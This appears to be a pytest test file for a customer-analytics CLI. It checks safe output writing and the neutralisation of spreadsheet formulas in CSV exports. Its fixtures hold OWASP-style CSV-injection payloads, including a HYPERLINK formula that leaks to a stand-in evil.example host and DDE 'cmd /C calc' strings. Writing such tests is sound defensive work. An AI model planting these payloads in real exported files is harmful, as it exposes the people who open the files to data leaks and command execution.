"""Output files (issue 18, item 7): never over the database or a file of the same command, whole or
not at all, one-line errors, and CSV cells that a spreadsheet would run as formulas neutralised.

Every case runs the real command line in a subprocess (``python -m patron``) and checks the files
on disk afterwards: the database by its bytes and by reading it back, a CSV with the csv module."""

from __future__ import annotations

import csv
import hashlib
import io
import os
import random
import re
import shutil
import sys
from pathlib import Path

import duckdb
import pyarrow as pa
import pytest

from patron.data.outputs import FORMULA_GUARD, atomic_output, guard_formulas
from tests.test_cli import one_line_error, run

HOSTILE_IDS = ('=HYPERLINK("http://evil.example/?leak","click")', "+cmd|'/C calc'!A0", "@SUM(A1)", "-1+cmd|'/C calc'!A0")
"""Customer ids that spreadsheets run as formulas (OWASP, "CSV Injection" examples)."""

NUMBER_IDS = ("-12", "+33612345678")
"""Ids that are only numbers: no formula, written unchanged (they must round-trip)."""

HOSTILE_CATEGORY = "=1+2"


def _orders_csv(path: Path) -> None:
    """40 ordinary customers, the hostile and numeric ids, 1-5 orders each over 2024 (seeded)."""
    rng = random.Random(18)
    ids = [f"c{i:02d}" for i in range(40)] + list(HOSTILE_IDS) + list(NUMBER_IDS)
    buf = io.StringIO()
    w = csv.writer(buf)
    w.writerow(["customer_id", "order_id", "occurred_at", "amount", "category"])
    n = 0
    for cid in ids:
        for _ in range(rng.randint(1, 5)):
            n += 1
            day = f"2024-{rng.randint(1, 12):02d}-{rng.randint(1, 28):02d}"
            w.writerow([cid, f"o{n}", day, f"{rng.uniform(5, 80):.2f}", HOSTILE_CATEGORY if cid in HOSTILE_IDS else "books"])
    path.write_text(buf.getvalue(), encoding="utf-8")


@pytest.fixture(scope="module")
def template(tmp_path_factory: pytest.TempPathFactory) -> Path:
    folder = tmp_path_factory.mktemp("outputs")
    _orders_csv(folder / "orders.csv")
    proc = run("ingest", "orders.csv", "--db", "shop.duckdb", cwd=folder)
    assert proc.returncode == 0, proc.stderr
    return folder / "shop.duckdb"


@pytest.fixture
def shop(template: Path, tmp_path: Path) -> Path:
    """A copy of the ingested database in this test's folder (with orders.csv beside it)."""
    shutil.copy(template, tmp_path / "shop.duckdb")
    shutil.copy(template.parent / "orders.csv", tmp_path / "orders.csv")
    return tmp_path / "shop.duckdb"


def _digest(path: Path) -> str:
    return hashlib.sha256(path.read_bytes()).hexdigest()


def _orders_stored(db: Path) -> int:
    with duckdb.connect(str(db), read_only=True) as con:
        return con.execute("SELECT count(*) FROM transactions").fetchall()[0][0]


# -- never over the database --------------------------------------------------------------------
OUT_COMMANDS = {
    "summary": ["summary", "--db", "shop.duckdb", "--out"],
    "score": ["score", "--db", "shop.duckdb", "--out"],
    "export-customer": ["export-customer", "c01", "--db", "shop.duckdb", "--out"],
    "status": ["status", "--db", "shop.duckdb", "--out"],
}


@pytest.mark.parametrize("command", OUT_COMMANDS)
def test_out_pointed_at_the_database_is_refused_and_the_database_kept(shop, command):
    before, stored = _digest(shop), _orders_stored(shop)
    one_line_error(run(*OUT_COMMANDS[command], "shop.duckdb", cwd=shop.parent), "shop.duckdb", "database")
    assert _digest(shop) == before
    assert _orders_stored(shop) == stored


@pytest.mark.parametrize("name", ["link.csv", "hard.csv", "shop.duckdb.wal", "copy.csv"])
def test_out_reaching_a_database_by_another_name_is_refused(shop, name):
    """A symbolic link, a hard link, the database's WAL name, another DuckDB file by any name."""
    folder = shop.parent
    if name == "link.csv":
        os.symlink("shop.duckdb", folder / name)
    elif name == "hard.csv":
        os.link(shop, folder / name)
    elif name == "copy.csv":
        shutil.copy(shop, folder / name)
    before = _digest(shop)
    one_line_error(run("summary", "--db", "shop.duckdb", "--out", name, cwd=folder), name)
    assert _digest(shop) == before
    assert _orders_stored(shop) > 0


@pytest.mark.parametrize("target", ["shop.duckdb", "bad.csv"])
def test_rejects_file_at_the_database_or_the_input_stores_nothing(shop, target):
    """--rejects-file is checked before any row is stored (it used to fail after the commit)."""
    folder = shop.parent
    (folder / "bad.csv").write_text("customer_id,occurred_at,amount\nnew1,2024-06-01,5\nnew2,never,5\n")
    before_bad, stored = (folder / "bad.csv").read_bytes(), _orders_stored(shop)
    one_line_error(run("ingest", "bad.csv", "--db", "shop.duckdb", "--rejects-file", target, cwd=folder), target)
    assert _orders_stored(shop) == stored
    assert (folder / "bad.csv").read_bytes() == before_bad


def test_an_output_over_an_input_of_the_same_command_is_refused(shop):
    folder = shop.parent
    (folder / "rules.toml").write_text('[segments]\nbig = "clv > 1"\n')
    before = (folder / "rules.toml").read_text()
    one_line_error(run("segments", "--db", "shop.duckdb", "--rules", "rules.toml", "--out", "rules.toml", cwd=folder),
                   "rules.toml", "input")
    assert (folder / "rules.toml").read_text() == before


def _unwritable(folder: Path) -> str:
    """A file this process cannot write: a read-only folder for a normal user; root writes
    anywhere on a normal file system, so for root a path in sysfs, which refuses new files."""
    if os.geteuid() != 0:
        locked = folder / "locked"
        locked.mkdir()
        (locked / "s.csv").write_text("old\n")
        locked.chmod(0o500)
        return str(locked / "s.csv")
    if not Path("/sys/kernel").is_dir():
        pytest.skip("running as root without sysfs: no unwritable place to try")
    return "/sys/kernel/patron-test.csv"


@pytest.mark.parametrize("target", ["folder", "/dev/full", "unwritable", "missing/s.csv"])
def test_out_that_cannot_be_written_is_one_line(shop, target):
    folder = shop.parent
    if target == "folder":
        (folder / "folder").mkdir()
    path = _unwritable(folder) if target == "unwritable" else target
    if target == "/dev/full" and not Path("/dev/full").exists():
        pytest.skip("no /dev/full on this system")
    one_line_error(run("summary", "--db", "shop.duckdb", "--out", path, cwd=folder), path)
    assert not [p for p in folder.rglob(".patron-*")], "a temporary file was left behind"


def test_a_failed_write_leaves_the_previous_file_whole(tmp_path):
    target = tmp_path / "scores.csv"
    target.write_text("previous\n")
    target.chmod(0o640)
    with pytest.raises(RuntimeError):
        with atomic_output(target) as tmp:
            tmp.write_text("half a fi")
            raise RuntimeError("the writer died")
    assert target.read_text() == "previous\n"
    assert [p.name for p in tmp_path.iterdir()] == ["scores.csv"]
    with atomic_output(target) as tmp:
        assert tmp != target and tmp.parent == target.parent
        tmp.write_text("new\n")
    assert target.read_text() == "new\n"
    assert target.stat().st_mode & 0o777 == 0o640, "the previous file's permissions are kept"


def test_special_files_are_written_in_place(shop):
    proc = run("summary", "--db", "shop.duckdb", "--out", "/dev/null", cwd=shop.parent)
    assert proc.returncode == 0, proc.stderr
    assert Path("/dev/null").is_char_device()


# -- formulas in CSV ----------------------------------------------------------------------------
_RISKY = re.compile(r"^[=+\-@\t\r]")
_NUMBER = re.compile(r"^[+-]?(\d+\.?\d*|\.\d+)([eE][+-]?\d+)?$")


def _cells(path: Path) -> list[list[str]]:
    with open(path, newline="", encoding="utf-8") as fh:
        return list(csv.reader(fh))


def _assert_safe(rows: list[list[str]]) -> None:
    """No cell a spreadsheet would run: every cell that begins with = + - @ tab CR is a number."""
    bad = [cell for row in rows for cell in row if _RISKY.match(cell) and not _NUMBER.match(cell)]
    assert not bad, bad


CSV_COMMANDS = {
    "summary": ["summary"],
    "score": ["score"],
    "status": ["status"],
    "loyalty": ["loyalty"],
    "profitability": ["profitability"],
    "profiles": ["profiles"],
}


@pytest.mark.parametrize("command", CSV_COMMANDS)
def test_csv_outputs_neutralise_formulas_and_keep_numbers(shop, command):
    folder = shop.parent
    proc = run(*CSV_COMMANDS[command], "--db", "shop.duckdb", "--out", "out.csv", cwd=folder)
    assert proc.returncode == 0, proc.stderr
    rows = _cells(folder / "out.csv")
    _assert_safe(rows)
    ids = {row[rows[0].index("customer_id")] for row in rows[1:]}
    assert {FORMULA_GUARD + h for h in HOSTILE_IDS} <= ids, "each hostile id is written, guarded"
    assert set(NUMBER_IDS) <= ids, "ids that are only numbers are written unchanged"


def test_equity_by_category_neutralises_a_category_name(shop):
    proc = run("equity", "--db", "shop.duckdb", "--by", "top_category", "--out", "eq.csv", cwd=shop.parent)
    assert proc.returncode == 0, proc.stderr
    rows = _cells(shop.parent / "eq.csv")
    _assert_safe(rows)
    assert FORMULA_GUARD + HOSTILE_CATEGORY in {row[0] for row in rows[1:]}


def test_rejects_csv_neutralises_formulas(shop):
    folder = shop.parent
    (folder / "bad.csv").write_text('customer_id,occurred_at,amount\nok1,2024-06-01,5\nx1,@SUM(A1),5\nx2,2024-06-02,"=HYPERLINK(""http://e"")"\n')
    proc = run("ingest", "bad.csv", "--db", "shop.duckdb", "--rejects-file", "rejects.csv", cwd=folder)
    assert proc.returncode == 0, proc.stderr
    rows = _cells(folder / "rejects.csv")
    _assert_safe(rows)
    assert {FORMULA_GUARD + "@SUM(A1)", FORMULA_GUARD + '=HYPERLINK("http://e")'} <= {row[2] for row in rows[1:]}


def test_csv_raw_writes_cells_as_they_are(shop):
    folder = shop.parent
    proc = run("--csv-raw", "summary", "--db", "shop.duckdb", "--out", "raw.csv", cwd=folder)
    assert proc.returncode == 0, proc.stderr
    rows = _cells(folder / "raw.csv")
    assert set(HOSTILE_IDS) <= {row[0] for row in rows[1:]}
    env = {**os.environ, "PATRON_CSV_SAFE": "false"}
    import subprocess

    proc = subprocess.run([sys.executable, "-m", "patron", "summary", "--db", "shop.duckdb", "--out", "env.csv"],
                          capture_output=True, text=True, cwd=folder, env=env, timeout=120)
    assert proc.returncode == 0, proc.stderr
    assert (folder / "env.csv").read_bytes() == (folder / "raw.csv").read_bytes()


def test_guard_formulas_on_every_text_cell_kind():
    """Tab and carriage return lead too; nulls, numbers and non-text columns are left alone."""
    table = pa.table({
        "t": ["\t=1+1", "\r=1+1", "-12", "+3.5e2", "-x", None, "plain", "a=b"],
        "n": [-1.0, 2.0, -3.0, 4.0, 5.0, 6.0, 7.0, 8.0],
        "d": pa.array(["=1", "x", "=1", "x", "=1", "x", "=1", "x"]).dictionary_encode(),
    })
    out = guard_formulas(table)
    assert out.column("t").to_pylist() == ["'\t=1+1", "'\r=1+1", "-12", "+3.5e2", "'-x", None, "plain", "a=b"]
    assert out.column("n").to_pylist() == table.column("n").to_pylist()
    assert out.column("d").to_pylist() == ["'=1", "x"] * 4
